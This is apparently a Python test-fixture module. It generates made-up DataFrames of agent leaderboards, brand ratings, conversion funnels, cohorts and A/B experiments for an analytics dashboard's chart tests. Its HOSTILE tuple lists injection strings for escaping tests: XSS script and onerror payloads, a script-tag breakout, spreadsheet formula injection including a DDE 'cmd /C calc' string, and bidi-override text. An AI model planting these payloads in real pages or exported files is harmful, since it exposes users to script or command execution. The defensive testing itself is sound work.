"""Believable frames for the tests of charts, tables and the dashboard: the warehouse's columns, made-up figures.

Every frame is a function of its arguments alone; `HOSTILE` are the names that people should never
have typed and that must come out as typed.
"""

from __future__ import annotations

import random
import uuid
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta
from decimal import ROUND_HALF_UP, Decimal

import polars as pl

from si_analytics.compute.statistics import wilson_interval

AS_OF = datetime(2026, 6, 1, tzinfo=UTC)
HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)"> <b>bold</b> &amp;',
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "\u202eevil\u202c \u200fעברית",
    "%{x} %{customdata} $x^2$ ${y}",
    "👩🏽‍🚀 Zoë O'Connor 🎉",
    "W" * 255,
    "</script><script>alert(3)</script><!--",
    '@SUM(1+1)*cmd|"/C calc"!A0',
    'line\nbreak, "quoted"; \u2028 separator',
)
_FIRST = (
    "Ana", "João", "Ingrid", "Søren", "Mehmet", "Aïcha", "Li", "Kofi", "Yuki",
    "Priya", "Tomás", "Zofia", "Noah", "Olu", "Freya", "Dmitri", "Leila", "Marta",
)  # fmt: skip
_LAST = (
    "Souza", "Núñez", "Lindqvist", "Ødegård", "Yılmaz", "Traoré", "Wei",
    "Mensah", "Tanaka", "Sharma", "García", "Kowalska", "Berg", "Adeyemi",
)  # fmt: skip
_BRAND = (
    "Northwind", "Alder", "Lumen", "Corvid", "Maison", "Ostara", "Finch",
    "Kestrel", "Basalt", "Juniper", "Verdant", "Halcyon", "Pelican",
)  # fmt: skip
_KIND = (
    "Coffee", "Outdoor", "Cosmetics", "Audio", "Cycles",
    "Foods", "Apparel", "Studio", "Games", "Travel",
)  # fmt: skip

AGENT_SCHEMA = {
    "agent_id": pl.String,
    "agent_name": pl.String,
    "avatar": pl.String,
    "tier": pl.String,
    "total_referrals": pl.Int64,
    "total_deals": pl.Int64,
    "total_earnings": pl.Decimal(38, 2),
    "rank": pl.Int64,
    "previous_rank": pl.Int64,
    "rank_change": pl.Int64,
}
PERFORMANCE_SCHEMA = {
    "user_id": pl.String,
    "total_deals": pl.Int64,
    "total_referrals": pl.Int64,
    "verified_referrals": pl.Int64,
    "total_earnings": pl.Decimal(38, 2),
    "average_conversion_time": pl.Decimal(38, 2),
    "response_time": pl.Decimal(38, 2),
    "satisfaction_score": pl.Decimal(38, 1),
    "performance_score": pl.Decimal(38, 2),
    "last_calculated_at": pl.Datetime("us", "UTC"),
}
BRAND_SCHEMA = {
    "sponsor_id": pl.String,
    "company": pl.String,
    "overall_rating": pl.Decimal(38, 1),
    "payment_speed_rating": pl.Decimal(38, 1),
    "communication_rating": pl.Decimal(38, 1),
    "professionalism_rating": pl.Decimal(38, 1),
    "review_count": pl.Int64,
    "total_deals": pl.Int64,
    "average_payment_time": pl.Decimal(38, 2),
    "reputation_score": pl.Decimal(38, 3),
    "rank": pl.Int64,
}
FUNNEL_SCHEMA = {
    "funnel": pl.String,
    "breakdown": pl.String,
    "breakdown_value": pl.String,
    "stage_number": pl.Int64,
    "stage": pl.String,
    "reached": pl.Int64,
    "dropped": pl.Int64,
    "conversion_from_previous": pl.Decimal(38, 6),
    "conversion_from_start": pl.Decimal(38, 6),
    "median_hours_from_start": pl.Decimal(38, 2),
    "p90_hours_from_start": pl.Decimal(38, 2),
    "immature": pl.Int64,
}
MONTHLY_SCHEMA = {
    "month": pl.Date,
    "new_deals": pl.Int64,
    "completed_deals": pl.Int64,
    "gmv": pl.Decimal(38, 2),
    "active_sponsors": pl.Int64,
    "active_influencers": pl.Int64,
    "platform_revenue": pl.Decimal(38, 2),
    "agent_payouts": pl.Decimal(38, 2),
    "net_revenue": pl.Decimal(38, 2),
    "take_rate": pl.Decimal(38, 6),
    "refunds": pl.Decimal(38, 2),
}
HISTORY_SCHEMA = {
    "as_of_date": pl.Date,
    "currency": pl.String,
    "agent_id": pl.String,
    "agent_name": pl.String,
    "tier": pl.String,
    "total_referrals": pl.Int64,
    "total_deals": pl.Int64,
    "total_earnings": pl.Decimal(38, 2),
    "rank": pl.Int64,
}
TIMES_SCHEMA = {
    "funnel": pl.String,
    "breakdown": pl.String,
    "breakdown_value": pl.String,
    "stage": pl.String,
    "percentile": pl.Int64,
    "hours_from_start": pl.Decimal(38, 2),
    "units": pl.Int64,
}
COHORT_SCHEMA = {
    "cohort_month": pl.Date,
    "months_since": pl.Int64,
    "cohort_size": pl.Int64,
    "active": pl.Int64,
    "retention": pl.Decimal(38, 6),
}
EXPERIMENT_SCHEMA = {
    "agent_id": pl.String,
    "template_name": pl.String,
    "variant": pl.String,
    "sent": pl.Int64,
    "accepted": pl.Int64,
    "acceptance": pl.Decimal(38, 6),
    "wilson_low": pl.Decimal(38, 6),
    "wilson_high": pl.Decimal(38, 6),
    "lift": pl.Decimal(38, 6),
    "difference": pl.Decimal(38, 6),
    "p_value": pl.Decimal(38, 6),
    "enough_data": pl.Boolean,
}
WARNING_SCHEMA = {"check": pl.String, "severity": pl.String, "rows": pl.Int64, "summary": pl.String}
STAGES = {
    "invite": ["sent", "opened", "clicked", "accepted", "joined", "verified", "first_deal", "completed_deal"],
    "gig": ["posted", "applied", "approved", "dealt", "completed", "paid"],
    "application": ["applied", "reviewed", "approved", "dealt", "completed", "paid"],
    "negotiation": ["opened", "offered", "countered", "accepted", "dealt"],
    "escrow": ["created", "locked", "submitted", "approved", "released"],
}


def rounded(value: float | Decimal, places: int) -> Decimal:
    return Decimal(str(value)).quantize(Decimal(1).scaleb(-places), rounding=ROUND_HALF_UP)


def agent_id(position: int) -> str:
    return str(uuid.UUID(int=0xA9E17 << 96 | position, version=4))


def agents(count: int, *, seed: int = 7, names: Sequence[str] = (), moved: bool = False) -> pl.DataFrame:
    """An agent_leaderboard of `count` agents whose earnings fall off as a power of their rank; `names` come first."""
    dice = random.Random(seed)
    rows = []
    for position in range(count):
        earns = position < max(1, round(count * 0.8))
        referrals = round(180 / (position + 2) ** 0.7) + dice.randrange(3)
        before = max(1, position + 1 + dice.randint(-4, 4)) if moved and dice.random() > 0.1 else None
        rows.append(
            {
                "agent_id": agent_id(position),
                "agent_name": names[position]
                if position < len(names)
                else f"{dice.choice(_FIRST)} {dice.choice(_LAST)}",
                "avatar": None,
                "tier": ("platinum", "gold", "silver", "bronze")[min(3, int(4 * position / max(count, 1)))],
                "total_referrals": referrals,
                "total_deals": referrals * dice.randint(1, 4),
                "total_earnings": rounded(48211.37 / (position + 1) ** 0.85 + 1, 2) if earns else Decimal("0.00"),
                "rank": position + 1,
                "previous_rank": before,
                "rank_change": None if before is None else before - position - 1,
            }
        )
    return pl.DataFrame(rows, schema=AGENT_SCHEMA)


def performance(leaderboard: pl.DataFrame, *, seed: int = 8) -> pl.DataFrame:
    """The agent_performance_metrics of the agents of `leaderboard`, some of them with nothing to show."""
    dice = random.Random(seed)
    rows = []
    for agent in leaderboard.to_dicts():
        shown = dice.random() > 0.15
        rows.append(
            {
                "user_id": agent["agent_id"],
                "total_deals": agent["total_deals"],
                "total_referrals": agent["total_referrals"],
                "verified_referrals": dice.randint(0, agent["total_referrals"]),
                "total_earnings": agent["total_earnings"],
                "average_conversion_time": rounded(dice.uniform(0.5, 21), 2) if shown else None,
                "response_time": rounded(dice.uniform(0.2, 60), 2) if shown else None,
                "satisfaction_score": rounded(dice.uniform(3, 5), 1) if shown else None,
                "performance_score": rounded(max(2.0, 96 - 80 * agent["rank"] / (leaderboard.height + 1)), 2),
                "last_calculated_at": AS_OF,
            }
        )
    return pl.DataFrame(rows, schema=PERFORMANCE_SCHEMA)


def brands(count: int, *, seed: int = 9, names: Sequence[str | None] = ()) -> pl.DataFrame:
    """A brand_reputations of `count` sponsors; every sixth has no review yet."""
    dice = random.Random(seed)
    rows = []
    for position in range(count):
        reviews = 0 if position % 6 == 5 else round(60 * dice.random() ** 3) + 1
        mean = rounded(min(5.0, max(1.0, dice.gauss(4.1, 0.5))), 1)
        rows.append(
            {
                "sponsor_id": str(uuid.UUID(int=0xB4A2D << 96 | position, version=4)),
                "company": names[position] if position < len(names) else f"{dice.choice(_BRAND)} {dice.choice(_KIND)}",
                **dict.fromkeys(
                    ("overall_rating", "payment_speed_rating", "communication_rating", "professionalism_rating"),
                    mean if reviews else None,
                ),
                "review_count": reviews,
                "total_deals": reviews * 2 + dice.randrange(4),
                "average_payment_time": None if position % 7 == 3 else rounded(dice.uniform(1, 30), 2),
                "reputation_score": rounded((Decimal("4.1") * 5 + mean * reviews) / (5 + reviews), 3)
                if reviews
                else None,
                "rank": None,
            }
        )
    rows.sort(
        key=lambda row: (
            not row["review_count"],
            *(-(row["reputation_score"] or 0), -row["review_count"], -row["total_deals"], row["sponsor_id"]),
        )
    )
    ranked = [{**row, "rank": rank if row["review_count"] else None} for rank, row in enumerate(rows, 1)]
    return pl.DataFrame(ranked, schema=BRAND_SCHEMA)


def stages(
    name: str, entered: int, *, breakdown: str = "all", value: str = "all", keep: float = 0.68, immature: int = 0
) -> list[dict[str, object]]:
    """The rows of one funnel that `entered` units entered and that keeps about `keep` of them at each stage."""
    rows: list[dict[str, object]] = []
    before = entered
    for number, stage in enumerate(STAGES[name], 1):
        reached = entered if number == 1 else int(before * (keep + 0.03 * (number % 3)))
        timed = number > 1 and reached > 0
        rows.append(
            {
                "funnel": name,
                "breakdown": breakdown,
                "breakdown_value": value,
                "stage_number": number,
                "stage": stage,
                "reached": reached,
                "dropped": 0 if number == 1 else before - reached,
                "conversion_from_previous": None
                if number == 1 or not before
                else rounded(Decimal(reached) / before, 6),
                "conversion_from_start": None
                if not entered and number > 1
                else rounded(Decimal(reached) / (entered or 1), 6)
                if number > 1
                else Decimal("1.000000"),
                "median_hours_from_start": rounded(3.7 * number**2, 2) if timed else None,
                "p90_hours_from_start": rounded(14.2 * number**2, 2) if timed else None,
                "immature": immature,
            }
        )
        before = reached
    return rows


def funnels(scale: int = 1) -> pl.DataFrame:
    """A conversion_funnels: all five, not broken down; with scale 0 nobody entered any."""
    entered = {"invite": 9412, "gig": 1804, "application": 6120, "negotiation": 2210, "escrow": 1498}
    return pl.DataFrame(
        [row for name in sorted(STAGES) for row in stages(name, entered[name] * scale)], schema=FUNNEL_SCHEMA
    )


def broken_down(name: str, breakdown: str, values: Sequence[str]) -> pl.DataFrame:
    """A conversion_funnels of one funnel, for each of `values`."""
    return pl.DataFrame(
        [
            row
            for position, value in enumerate(values)
            for row in stages(
                name, 4000 // (position + 1), breakdown=breakdown, value=value, keep=0.74 - 0.05 * (position % 6)
            )
        ],
        schema=FUNNEL_SCHEMA,
    )


def monthly(count: int = 17, *, valued: bool = True) -> pl.DataFrame:
    """A marketplace_monthly of `count` months up to May 2026."""
    dice = random.Random(11)
    rows = []
    for back in range(count - 1, -1, -1):
        year, month = divmod(2026 * 12 + 4 - back, 12)
        deals = 120 + 9 * (count - back) + dice.randint(-20, 20)
        gmv = rounded(deals * dice.uniform(310, 360), 2)
        revenue, payouts = rounded(gmv * Decimal("0.12"), 2), rounded(gmv * Decimal("0.021"), 2)
        rows.append(
            {
                "month": date(year, month + 1, 1),
                "new_deals": deals,
                "completed_deals": round(deals * 0.8),
                "gmv": gmv if valued else None,
                "active_sponsors": deals // 3,
                "active_influencers": deals // 2,
                "platform_revenue": revenue,
                "agent_payouts": payouts,
                "net_revenue": revenue - payouts,
                "take_rate": rounded(revenue / gmv, 6) if valued else None,
                "refunds": rounded(gmv * Decimal("0.01"), 2),
            }
        )
    return pl.DataFrame(rows, schema=MONTHLY_SCHEMA)


def warnings() -> pl.DataFrame:
    """What two checks and a third that found nothing report."""
    return pl.DataFrame(
        [
            {
                "check": "other_currencies",
                "severity": "warning",
                "rows": 412,
                "summary": "412 transactions in eth and usdc were left out: 31.20 eth, 40,118.00 usdc.",
            },
            {
                "check": "recruited_by_two_agents",
                "severity": "warning",
                "rows": 6,
                "summary": "6 users are recruited by two active agents; their deals count for both.",
            },
            {"check": "null_event_times", "severity": "warning", "rows": 0, "summary": "No row lacks its event time."},
        ],
        schema=WARNING_SCHEMA,
    )


def history(count: int = 30, agents_: int = 8, *, names: Sequence[str] = ()) -> pl.DataFrame:
    """The boards kept of `count` days up to May's last, of `agents_` agents whose earnings only grow."""
    dice = random.Random(5)
    daily = [rounded(dice.uniform(20, 900), 2) for _ in range(agents_)]
    rows: list[dict[str, object]] = []
    for day in range(count):
        board = sorted(
            ((daily[agent] * (day + 1), agent) for agent in range(agents_)), key=lambda pair: (-pair[0], pair[1])
        )
        rows += [
            {
                "as_of_date": date(2026, 5, 31) - timedelta(days=count - 1 - day),
                "currency": "usd",
                "agent_id": agent_id(agent),
                "agent_name": names[agent] if agent < len(names) else f"Agent {agent}",
                "tier": "gold",
                "total_referrals": 3,
                "total_deals": 4,
                "total_earnings": earned,
                "rank": rank,
            }
            for rank, (earned, agent) in enumerate(board, 1)
        ]
    return pl.DataFrame(rows, schema=HISTORY_SCHEMA)


def times(values: Sequence[str] = ("all",), *, breakdown: str = "all", units: int = 400) -> pl.DataFrame:
    """A time_to_convert of invites to acceptance: minutes for the quickest, months for the slowest."""
    rows = [
        {
            "funnel": "invite",
            "breakdown": breakdown,
            "breakdown_value": value,
            "stage": "accepted",
            "percentile": percentile,
            "hours_from_start": rounded((position + 1) * 0.4 * 1.085**percentile, 2),
            "units": units // (position + 1),
        }
        for position, value in enumerate(values)
        for percentile in range(101)
    ]
    return pl.DataFrame(rows, schema=TIMES_SCHEMA)


def cohorts(count: int = 16) -> pl.DataFrame:
    """A signup_cohorts of `count` months up to May 2026: a triangle, as it really is."""
    rows = []
    for back in range(count - 1, -1, -1):
        year, month = divmod(2026 * 12 + 4 - back, 12)
        for since in range(back + 1):
            active = round(40 / (1 + since * 0.6))
            rows.append(
                {
                    "cohort_month": date(year, month + 1, 1),
                    "months_since": since,
                    "cohort_size": 60,
                    "active": active,
                    "retention": rounded(Decimal(active) / 60, 6),
                }
            )
    return pl.DataFrame(rows, schema=COHORT_SCHEMA)


def experiments(count: int = 8, *, names: Sequence[str] = ()) -> pl.DataFrame:
    """A template_experiments of `count` pairs; the odd ones sent too few, nobody accepted the A of the third."""
    rows: list[dict[str, object]] = []
    for position in range(count):
        sent = 12 if position % 2 else 90 + position
        won = {"A": 0 if position == 2 else sent // 5, "B": sent // 3}
        shares = {variant: Decimal(accepted) / sent for variant, accepted in won.items()}
        for variant, accepted in won.items():
            low, high = wilson_interval(accepted, sent)
            rows.append(
                {
                    "agent_id": agent_id(position % 3),
                    "template_name": names[position] if position < len(names) else f"Template {position}",
                    "variant": variant,
                    "sent": sent,
                    "accepted": accepted,
                    "acceptance": rounded(shares[variant], 6),
                    "wilson_low": low,
                    "wilson_high": high,
                    "lift": rounded(shares["B"] / shares["A"] - 1, 6) if shares["A"] else None,
                    "difference": rounded(shares["B"] - shares["A"], 6),
                    "p_value": Decimal("0.000200") if position == 0 else Decimal("0.043210"),
                    "enough_data": sent >= 30,
                }
            )
    return pl.DataFrame(rows, schema=EXPERIMENT_SCHEMA)
